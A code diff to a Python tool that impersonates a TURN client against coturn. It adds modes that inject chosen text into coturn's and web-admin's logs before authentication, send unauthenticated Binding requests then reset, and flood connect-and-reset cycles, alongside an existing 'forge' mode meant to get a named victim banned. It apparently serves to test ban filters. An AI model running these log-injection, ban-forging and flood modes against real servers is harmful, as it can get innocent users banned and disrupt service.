@@ -8,6 +8,7 @@ It knows just enough of TURN to be believed by coturn; it relays no media.
 import argparse
 import hashlib
 import hmac
+import json
 import os
 import socket
 import ssl
@@ -16,7 +17,7 @@ import sys
 import time
 
 MAGIC_COOKIE = 0x2112A442
-ALLOCATE, REFRESH = 0x003, 0x004
+BINDING, ALLOCATE, REFRESH = 0x001, 0x003, 0x004
 USERNAME, MESSAGE_INTEGRITY, ERROR_CODE, LIFETIME = 0x0006, 0x0008, 0x0009, 0x000D
 REALM, NONCE, XOR_RELAYED_ADDRESS, REQUESTED_FAMILY, REQUESTED_TRANSPORT, ORIGIN = 0x0014, 0x0015, 0x0016, 0x0017, 0x0019, 0x802F
 RELAY_OVER_UDP = b"\x11\0\0\0"  # protocol 17 in the first byte, three reserved ones
@@ -143,6 +144,40 @@ def forge(server, port, victim, source=None):
             time.sleep(0.02)
 
 
+def inscribe(server, port, place, texts, source=None):
+    """Has coturn log each of the texts (bytes) as one attribute of a UDP packet, before any authentication: who sends it could
+    be anybody. `place`: username (512 bytes of it are logged), realm (127), origin (1023 with the record; verbose: 127)."""
+    wanted = attribute(REQUESTED_TRANSPORT, RELAY_OVER_UDP)
+    for text in texts:
+        if place == "username":
+            packet = request(ALLOCATE, wanted + attribute(REALM, b"example.org") + attribute(USERNAME, text) + attribute(NONCE, b"n"), b"k" * 16)
+        elif place == "realm":
+            packet = request(ALLOCATE, wanted + attribute(REALM, text) + attribute(USERNAME, b"u") + attribute(NONCE, b"n"), b"k" * 16)
+        else:
+            packet = request(ALLOCATE, wanted + attribute(ORIGIN, text))
+        with connect("udp", server, port, source) as stream:
+            stream.sendall(packet)
+        time.sleep(0.002)
+
+
+def post(server, port, texts, source=None):
+    """Has web-admin log each of the texts as the body of a request."""
+    for text in texts:
+        with connect("tls", server, port, source) as stream:
+            stream.sendall(b"POST /logon HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % len(text) + text)
+            time.sleep(0.05)
+
+
+def bindings_then_reset(server, port, count, hold, source=None):
+    """Talks to coturn without logging in, stays for `hold` seconds, vanishes with RST."""
+    stream = connect("tcp", server, port, source)
+    for _ in range(count):
+        stream.sendall(request(BINDING, b""))
+        stream.recv(4096)
+    time.sleep(hold)
+    reset(stream)
+
+
 def main():
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("--server", required=True)
@@ -160,6 +195,13 @@ def main():
     verbs.add_parser("tls-reset", help="finish a TLS handshake, reset")
     verbs.add_parser("reset", help="connect, send nothing, reset")
     verb = verbs.add_parser("connect", help="only connect; exit 1 when that times out")
+    verb = verbs.add_parser("inscribe", help="texts (JSON list on standard input) that coturn logs before any authentication")
+    verb.add_argument("place", choices=("username", "realm", "origin", "web-admin"))
+    verb = verbs.add_parser("bindings", help="a hundred Binding requests over TCP, then wait, then reset")
+    verb.add_argument("--count", type=int, default=100)
+    verb.add_argument("--hold", type=float, default=0.1, help="seconds between the last request and the reset")
+    verb = verbs.add_parser("flood", help="connect and reset, COUNT times without a pause")
+    verb.add_argument("count", type=int)
     verb = verbs.add_parser("forge", help="try to write a line into coturn's log that gets VICTIM banned")
     verb.add_argument("victim")
     options = parser.parse_args()
@@ -186,6 +228,17 @@ def main():
                 reset(stream)
             elif options.verb == "connect":
                 connect("tcp", options.server, port, options.source, options.timeout).close()
+            elif options.verb == "inscribe":
+                texts = [text.encode("latin-1") for text in json.load(sys.stdin)]
+                if options.place == "web-admin":
+                    post(options.server, port, texts, options.source)
+                else:
+                    inscribe(options.server, port, options.place, texts, options.source)
+            elif options.verb == "bindings":
+                bindings_then_reset(options.server, port, options.count, options.hold, options.source)
+            elif options.verb == "flood":
+                for _ in range(options.count):
+                    reset(connect("tcp", options.server, port, options.source, options.timeout))
             else:
                 forge(options.server, port, options.victim, options.source)
         except OSError as problem:
